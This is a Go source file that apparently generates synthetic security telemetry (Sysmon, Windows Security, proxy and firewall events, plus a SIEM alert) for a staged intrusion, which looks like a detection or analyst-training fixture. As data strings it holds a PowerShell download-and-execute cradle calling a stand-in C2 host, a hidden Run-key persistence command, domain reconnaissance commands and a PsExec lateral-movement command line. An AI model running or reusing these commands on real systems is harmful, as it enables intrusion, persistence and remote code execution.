package demo

import (
	"encoding/base64"
	"encoding/json"
	"math/rand/v2"
	"strconv"
	"strings"
	"time"
	"unicode/utf16"
)

// The story's process ids and other fixed details, so its events link up.
const (
	storyPIDOutlook    = 6120
	storyPIDWord       = 7412
	storyPIDPowerShell = 5316
	storyPIDPsExec     = 8844
	storyPIDPsexesvc   = 3376
	storyPIDRemoteCmd  = 4092
	storyGUIDWord      = "{a98268c1-5f61-6731-1c03-000000001b00}"
	storyGUIDPS        = "{a98268c1-5f71-6731-1d03-000000001b00}"
	storyBeaconHours   = 6
	storyUA            = "Mozilla/5.0 (Windows NT 10.0; Win64; x64; Trident/7.0; rv:11.0) like Gecko"
)

// StoryScript is the PowerShell the story's macro runs; its first words,
// UTF-16LE and base64, are Story.EncodedMarker's payload. PowerShell script
// block logging (event 4104) records it in full.
const StoryScript = "$client=New-Object Net.WebClient;$client.Headers.Add('User-Agent','" + storyUA +
	"');IEX $client.DownloadString('https://cdn-update.example-c2.net/s/update.ps1')"

// StoryCommandLine is the command line of the encoded PowerShell that
// WINWORD.EXE starts; it ends with Story.EncodedMarker, so the marker is a
// whole word for free-text search as well as a substring.
var StoryCommandLine = `"` + exePowerShell + `" -nop -w hidden ` + Story.EncodedMarker

// StoryAttachmentPath is where Outlook saved the phishing attachment that
// WINWORD.EXE opens.
var StoryAttachmentPath = outlookCache(Story.User) + Story.Attachment

// StoryPersistence is the value the story writes to Story.RunKey.
var StoryPersistence = `powershell.exe -nop -w hidden -File "C:\Users\` + Story.User + `\AppData\Roaming\Microsoft\OneDriveUpdate\update.ps1"`

// StoryRemoteCommand is what the story runs on Story.LateralHost through the
// PsExec-like service PSEXESVC.
const StoryRemoteCommand = `cmd.exe /c "net share & dir D:\Shares\Finance"`

// encodedPayload returns the base64 of the UTF-16LE text s, as -enc takes it.
func encodedPayload(s string) string {
	u := utf16.Encode([]rune(s))
	b := make([]byte, 0, 2*len(u))
	for _, c := range u {
		b = append(b, byte(c), byte(c>>8))
	}
	return base64.StdEncoding.EncodeToString(b)
}

// genStory writes the attack of Story into b, for data starting at start.
func genStory(b *batch, r *rand.Rand, start time.Time) {
	p := profiles[Story.Tenant]
	g := &gen{b: b, r: r, p: p, day: start}
	t0 := StoryTime(start)
	at := func(d time.Duration) time.Time { return t0.Add(d) }
	pz := Story.PatientZeroHost
	user := Story.Domain + `\` + Story.User
	ui := -1
	for i, u := range p.users {
		if u == Story.User {
			ui = i
		}
	}
	mark := func() { b.last().story = true }

	// 1. The phishing mail is delivered; Outlook saves the attachment, Word opens it.
	b.begin(at(0), p.tenant, KindMail)
	b.s("event.dataset", KindMail)
	b.s("event.kind", "event")
	b.s("event.category", "email")
	b.s("event.action", "delivered")
	b.s("observer.name", p.mx)
	b.s("source.ip", "198.18.0.77")
	b.s("email.from.address", Story.PhishSender)
	b.s("email.to.address", Story.User+"@"+p.mailDom)
	b.s("email.subject", Story.PhishSubject)
	b.s("email.attachments.file.name", Story.Attachment)
	b.s("email.attachments.file.mime_type", "application/vnd.ms-word.document.macroEnabled.12")
	b.s("email.message_id", "<20261106085702.4f1c@acme-billing.example.net>")
	b.s("user.name", Story.User)
	mark()

	g.win(at(2*time.Minute+10*time.Second), KindSysmon, pz, 11, chanSysmon, srcSysmon)
	b.n("ProcessId", storyPIDOutlook)
	b.s("Image", exeOutlook)
	b.s("TargetFilename", StoryAttachmentPath)
	b.s("User", user)
	mark()

	wordCmd := `"` + exeWord + `" /n "` + StoryAttachmentPath + `" /o ""`
	g.storyProcess(at(2*time.Minute+14*time.Second), pz, user, storyGUIDWord, storyPIDWord, exeWord, wordCmd,
		storyPIDOutlook, exeOutlook, `"`+exeOutlook+`" /recycle`)

	// 2. The macro starts encoded PowerShell, which resolves and reaches its C2.
	g.storyProcess(at(2*time.Minute+31*time.Second), pz, user, storyGUIDPS, storyPIDPowerShell, exePowerShell, StoryCommandLine,
		storyPIDWord, exeWord, wordCmd)

	g.win(at(2*time.Minute+32*time.Second), KindPowerShell, pz, 4104, chanPowerShell, srcPowerShell)
	b.s("UserID", p.userSID(ui))
	b.n("MessageNumber", 1)
	b.n("MessageTotal", 1)
	b.s("ScriptBlockText", StoryScript)
	b.s("ScriptBlockId", "3c2f8a71-0d1e-4b7a-9a3e-5d2b91f04c11")
	mark()

	g.win(at(2*time.Minute+33*time.Second), KindSysmon, pz, 22, chanSysmon, srcSysmon)
	b.s("ProcessGuid", storyGUIDPS)
	b.n("ProcessId", storyPIDPowerShell)
	b.s("Image", exePowerShell)
	b.s("QueryName", Story.C2Domain)
	b.s("QueryStatus", "0")
	b.s("QueryResults", "::ffff:"+Story.C2IP+";")
	b.s("User", user)
	mark()

	g.storyC2(at(2*time.Minute+34*time.Second), user, "GET", "/s/update.ps1", 4096)

	// 3. Persistence: a script and a Run key that starts it at logon.
	g.win(at(6*time.Minute), KindSysmon, pz, 11, chanSysmon, srcSysmon)
	b.s("ProcessGuid", storyGUIDPS)
	b.n("ProcessId", storyPIDPowerShell)
	b.s("Image", exePowerShell)
	b.s("TargetFilename", `C:\Users\`+Story.User+`\AppData\Roaming\Microsoft\OneDriveUpdate\update.ps1`)
	b.s("User", user)
	mark()

	g.win(at(6*time.Minute+5*time.Second), KindSysmon, pz, 13, chanSysmon, srcSysmon)
	b.s("EventType", "SetValue")
	b.s("ProcessGuid", storyGUIDPS)
	b.n("ProcessId", storyPIDPowerShell)
	b.s("Image", exePowerShell)
	b.s("TargetObject", Story.RunKey)
	b.s("Details", StoryPersistence)
	b.s("User", user)
	mark()

	// 4. Beaconing every minute or so, for hours.
	sid := "7f3a9c01"
	for t := at(3 * time.Minute); t.Before(at(storyBeaconHours * time.Hour)); {
		g.storyC2(t, user, "POST", "/api/v2/ping?sid="+sid, 180+r.IntN(120))
		t = t.Add(54*time.Second + time.Duration(r.IntN(12000))*time.Millisecond)
	}

	// 5. Discovery from the PowerShell session.
	recon := []struct {
		d        time.Duration
		exe, cmd string
	}{
		{41 * time.Minute, `C:\Windows\System32\whoami.exe`, `whoami /all`},
		{42 * time.Minute, `C:\Windows\System32\net.exe`, `net group "Domain Admins" /domain`},
		{44 * time.Minute, `C:\Windows\System32\nltest.exe`, `nltest /dclist:` + p.dnsSuffix},
		{47 * time.Minute, `C:\Windows\System32\net.exe`, `net view \\` + Story.LateralHost},
	}
	for i, c := range recon {
		g.storyProcess(at(c.d), pz, user, "", storyPIDPowerShell+100+4*i, c.exe, c.cmd, storyPIDPowerShell, exePowerShell, StoryCommandLine)
	}

	// 6. Lateral movement with hsato's credentials: a PsExec-like tool starts a
	// service on the file server, which runs commands there.
	psexec := `C:\Users\` + Story.User + `\AppData\Local\Temp\PsExec64.exe`
	g.storyC2(at(110*time.Minute), user, "GET", "/s/ps.bin", 833000)
	g.win(at(110*time.Minute+2*time.Second), KindSysmon, pz, 11, chanSysmon, srcSysmon)
	b.s("ProcessGuid", storyGUIDPS)
	b.n("ProcessId", storyPIDPowerShell)
	b.s("Image", exePowerShell)
	b.s("TargetFilename", psexec)
	b.s("User", user)
	mark()
	g.storyProcess(at(112*time.Minute), pz, user, "", storyPIDPsExec, psexec,
		`"`+psexec+`" \\`+Story.LateralHost+` -accepteula `+StoryRemoteCommand, storyPIDPowerShell, exePowerShell, StoryCommandLine)

	g.win(at(112*time.Minute+2*time.Second), KindSysmon, pz, 3, chanSysmon, srcSysmon)
	b.n("ProcessId", storyPIDPsExec)
	b.s("Image", psexec)
	b.s("User", user)
	b.s("Protocol", "tcp")
	b.s("Initiated", "true")
	b.s("SourceIp", Story.PatientZeroIP)
	b.n("SourcePort", 50412)
	b.s("DestinationIp", Story.LateralIP)
	b.s("DestinationHostname", Story.LateralHost+"."+p.dnsSuffix)
	b.n("DestinationPort", 445)
	mark()

	g.win(at(112*time.Minute+3*time.Second), KindSecurity, Story.LateralHost, 4624, chanSecurity, srcSecurity)
	b.s("SubjectUserSid", "S-1-0-0")
	b.s("TargetUserSid", p.userSID(ui))
	b.s("TargetUserName", Story.User)
	b.s("TargetDomainName", Story.Domain)
	b.s("TargetLogonId", "0x3e7a1c2")
	b.n("LogonType", 3)
	b.s("LogonProcessName", "NtLmSsp")
	b.s("AuthenticationPackageName", "NTLM")
	b.s("WorkstationName", pz)
	b.s("IpAddress", Story.PatientZeroIP)
	b.s("IpPort", "50412")
	b.s("user.name", Story.User)
	mark()

	g.win(at(112*time.Minute+4*time.Second), KindEventLog, Story.LateralHost, 7045, chanSystem, srcSCM)
	b.s("ServiceName", "PSEXESVC")
	b.s("ImagePath", `%SystemRoot%\PSEXESVC.exe`)
	b.s("ServiceType", "user mode service")
	b.s("StartType", "demand start")
	b.s("AccountName", "LocalSystem")
	mark()

	psexesvc := `C:\Windows\PSEXESVC.exe`
	g.storyProcess(at(112*time.Minute+5*time.Second), Story.LateralHost, userSystem, "", storyPIDPsexesvc, psexesvc, psexesvc,
		628, exeServices, exeServices)
	g.storyProcess(at(112*time.Minute+7*time.Second), Story.LateralHost, user, "", storyPIDRemoteCmd, exeCmd, StoryRemoteCommand,
		storyPIDPsexesvc, psexesvc, psexesvc)
	g.storyProcess(at(112*time.Minute+8*time.Second), Story.LateralHost, user, "", storyPIDRemoteCmd+8, `C:\Windows\System32\net.exe`, `net share`,
		storyPIDRemoteCmd, exeCmd, StoryRemoteCommand)
}

// storyProcess writes a process start of the story as Sysmon 1 and Security 4688.
func (g *gen) storyProcess(t time.Time, hostName, user, guid string, pid int, image, cmd string, ppid int, pimage, pcmd string) {
	b := g.b
	if guid == "" {
		guid = g.guid()
	}
	dom, name, _ := strings.Cut(user, `\`)
	g.win(t, KindSysmon, hostName, 1, chanSysmon, srcSysmon)
	b.s("ProcessGuid", guid)
	b.n("ProcessId", pid)
	b.s("Image", image)
	b.s("CommandLine", cmd)
	if dom == "NT AUTHORITY" {
		b.s("CurrentDirectory", `C:\Windows\system32\`)
		b.s("IntegrityLevel", "System")
	} else {
		b.s("CurrentDirectory", `C:\Users\`+name+`\`)
		b.s("IntegrityLevel", "Medium")
	}
	b.s("User", user)
	b.s("Hashes", makeHashes(image))
	b.n("ParentProcessId", ppid)
	b.s("ParentImage", pimage)
	b.s("ParentCommandLine", pcmd)
	b.last().story = true

	subject := name
	if dom == "NT AUTHORITY" {
		subject, dom = hostName+"$", Story.Domain
	}
	g.win(t.Add(time.Millisecond), KindSecurity, hostName, 4688, chanSecurity, srcSecurity)
	b.s("SubjectUserName", subject)
	b.s("SubjectDomainName", dom)
	b.s("NewProcessId", "0x"+strconv.FormatInt(int64(pid), 16))
	b.s("NewProcessName", image)
	b.s("TokenElevationType", "%%1938")
	b.s("ProcessId", "0x"+strconv.FormatInt(int64(ppid), 16))
	b.s("CommandLine", cmd)
	b.s("ParentProcessName", pimage)
	b.last().story = true
}

// storyC2 writes one exchange of the implant with its C2: the connection
// (Sysmon 3), the proxy's log line and the firewall's.
func (g *gen) storyC2(t time.Time, user, method, path string, bytes int) {
	b, p := g.b, g.p
	sport := g.port()
	g.win(t, KindSysmon, Story.PatientZeroHost, 3, chanSysmon, srcSysmon)
	b.s("ProcessGuid", storyGUIDPS)
	b.n("ProcessId", storyPIDPowerShell)
	b.s("Image", exePowerShell)
	b.s("User", user)
	b.s("Protocol", "tcp")
	b.s("Initiated", "true")
	b.s("SourceIp", Story.PatientZeroIP)
	b.n("SourcePort", sport)
	b.s("DestinationIp", Story.C2IP)
	b.s("DestinationHostname", Story.C2Domain)
	b.n("DestinationPort", Story.C2Port)
	b.last().story = true

	b.begin(t.Add(40*time.Millisecond), p.tenant, KindProxy)
	b.s("event.dataset", KindProxy)
	b.s("event.kind", "event")
	b.s("event.category", "web")
	b.s("event.action", "allowed")
	b.s("observer.name", p.proxy)
	b.s("user.name", Story.User)
	b.s("source.ip", Story.PatientZeroIP)
	b.s("destination.ip", Story.C2IP)
	b.n("destination.port", Story.C2Port)
	b.s("url.domain", Story.C2Domain)
	b.s("url.full", "https://"+Story.C2Domain+path)
	b.s("http.request.method", method)
	b.n("http.response.status_code", 200)
	b.n("http.response.bytes", bytes)
	b.s("user_agent.original", storyUA)
	b.last().story = true

	g.fw(t.Add(20*time.Millisecond), "allow", "allow-web", "tcp", "outbound", Story.PatientZeroIP, sport, Story.C2IP, Story.C2Port)
	b.last().story = true
}

// StoryAlert returns the SIEM alert the story raises, as a SIEM would post it
// to alert-intake's webhook: JSON with the alert id (Story.AlertID), the
// tenant, a rule name, severity, time and the entities involved.
func StoryAlert(start time.Time) []byte {
	if start.IsZero() {
		start = DefaultStart
	}
	t := StoryTime(start.UTC().Truncate(24 * time.Hour)).Add(2*time.Minute + 31*time.Second)
	a := map[string]any{
		"id":             Story.AlertID,
		"tenant":         Story.Tenant,
		"rule":           storyRule,
		"severity":       "high",
		"time":           t.Format(time.RFC3339),
		"host":           Story.PatientZeroHost,
		"user":           Story.User,
		"source_ip":      Story.PatientZeroIP,
		"process":        "powershell.exe",
		"parent_process": "WINWORD.EXE",
		"command_line":   StoryCommandLine,
	}
	b, _ := json.Marshal(a)
	return b
}
